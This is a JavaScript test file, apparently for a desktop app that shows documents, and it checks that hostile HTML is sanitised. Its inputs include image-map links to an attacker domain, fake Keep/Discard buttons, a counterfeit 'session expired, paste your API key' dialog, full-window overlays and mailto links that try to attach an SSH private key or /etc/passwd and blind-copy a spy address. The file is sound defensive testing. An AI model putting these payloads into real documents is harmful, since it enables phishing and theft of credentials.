// Hostile documents against the real UI (mock backend): one test per way a document could act for the
// user or pass for the app (issue #12). The shell's navigation guard is proven in the real window by
// tests/e2e_security.rs; here the page alone must already refuse.
import assert from "node:assert/strict";
import { test } from "./harness.mjs";

const $ = (sel) => `[data-testid="${sel}"]`;
const calls = (page, cmd) => page.evaluate((c) => window.__mock.calls.filter((x) => x.cmd === c).map((x) => x.args), cmd);
const PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

/** Opens the demo with `html` as the second session's document, and shows it. */
async function openHostile(page, open, html) {
  await open("profile=demo");
  await page.waitForSelector(`${$("document")} h1`);
  await page.evaluate((h) => (window.__mock.state.sessions[1].html = h), html);
  await page.click(`${$("session-item")}:has-text("Master Services")`);
  await page.waitForSelector(`${$("document")} [data-chunk-id="x1"]`);
  return page.locator($("document"));
}

test("hostile: an <area> over an image is removed, and clicking the image goes nowhere", async ({ page, open, offsite }) => {
  const doc = await openHostile(page, open, `<h1 data-chunk-id="x1">Invoice</h1>
    <p data-chunk-id="x2"><img id="pic" src="${PIXEL}" usemap="#m" width="400" height="200" alt="pic"></p>
    <map name="m"><area shape="default" href="https://evil.example/session-expired"></map>`);
  assert.equal(await doc.locator("map, area, [usemap]").count(), 0);
  const before = page.url();
  await doc.locator("img[alt=pic]").click();
  await page.waitForTimeout(100);
  assert.equal(page.url(), before, "the window stays on the app's page");
  assert.deepEqual(await calls(page, "open_url"), []);
  assert.deepEqual(offsite, []);
});

test("hostile: data-change-action in a document cannot imitate Keep / Discard", async ({ page, open }) => {
  const doc = await openHostile(page, open, `<h1 data-chunk-id="x1">Terms</h1>
    <p data-chunk-id="x2"><span class="change-btn keep" data-change-action="keep" data-change-id="ch_1">✓ Keep</span>
    <span data-change-action="discard" data-change-id="ch_2">✕ Discard</span></p>`);
  assert.equal(await doc.locator("[data-change-action], [data-change-id], .change-btn").count(), 0);
  await doc.locator("text=✓ Keep").click();
  await doc.locator("text=✕ Discard").click();
  assert.equal(await page.locator($("discard-form")).count(), 0, "no discard form opened");
  assert.deepEqual(await calls(page, "approve_changes"), []);
});

test("hostile: a document cannot borrow the app's classes or draw outside its box", async ({ page, open }) => {
  const doc = await openHostile(page, open, `<h1 data-chunk-id="x1">Notice</h1>
    <div data-chunk-id="x2" class="dialog error-card overlay" id="connect-screen" role="dialog">Your session expired. Paste your API key:</div>
    <div data-chunk-id="x3" id="cover" style="margin-top:-3000px;margin-left:-3000px;width:9000px;height:9000px;background:rgb(255,0,0);z-index:2147483647">cover</div>`);
  const fake = doc.locator("text=Your session expired");
  assert.equal(await fake.getAttribute("class"), null);
  assert.equal(await fake.getAttribute("role"), null);
  assert.equal(await fake.getAttribute("id"), "user-content-connect-screen");
  assert.equal(await page.locator("#connect-screen").count(), 0, "the app's id stays the app's");
  // The oversized, pulled-up block paints only inside the document, and so would a fixed box if a style ever
  // slipped through the sanitiser (added here by hand): the title bar and the sidebar stay the app's.
  await doc.evaluate((el) => {
    const slipped = document.createElement("div");
    slipped.style.cssText = "position:fixed;inset:0;z-index:2147483647;background:rgb(0,0,255)";
    el.append(slipped);
  });
  const hits = await page.evaluate(() => {
    const bar = document.querySelector(".titlebar").getBoundingClientRect();
    const side = document.querySelector('[data-testid="session-item"]').getBoundingClientRect();
    return [document.elementFromPoint(bar.left + 40, bar.top + bar.height / 2), document.elementFromPoint(side.left + 10, side.top + 5)].map(
      (el) => !!el?.closest('[data-testid="document"]'),
    );
  });
  assert.deepEqual(hits, [false, false], "the document drew over the app");
});

test("hostile: styles that load url() or position themselves are dropped, plain ones kept", async ({ page, open, offsite }) => {
  const doc = await openHostile(page, open, `<h1 data-chunk-id="x1">Styled</h1>
    <p data-chunk-id="x2" style="background-image:url(https://tracker.example/bg.png)">bg</p>
    <p data-chunk-id="x3" style="position:fixed;top:0;left:0;right:0;bottom:0">fixed</p>
    <p data-chunk-id="x4" style="text-align:center">centred</p>`);
  const styles = await doc.evaluate((el) => [...el.querySelectorAll("p")].map((p) => p.getAttribute("style")));
  assert.deepEqual(styles, [null, null, "text-align:center"]);
  assert.deepEqual(offsite, [], `remote requests were made: ${offsite}`);
});

test("hostile: a mailto: link opens with its subject and body only (no attach=, cc or bcc)", async ({ page, open }) => {
  const doc = await openHostile(page, open, `<h1 data-chunk-id="x1">Mail</h1>
    <p data-chunk-id="x2"><a href="mailto:boss@corp.example?subject=Report&attach=/home/me/.ssh/id_rsa&bcc=spy@evil.example&body=See%20attached">mail me</a>
    <a href="mailto:?attach=/etc/passwd">attach only</a> <a href="http://plain.example/">plain http</a></p>`);
  await doc.locator("text=mail me").click();
  await doc.locator("text=attach only").click();
  await doc.locator("text=plain http").click();
  await page.waitForTimeout(100);
  assert.deepEqual(await calls(page, "open_url"), [{ url: "mailto:boss@corp.example?subject=Report&body=See%20attached" }, { url: "mailto:" }]);
});
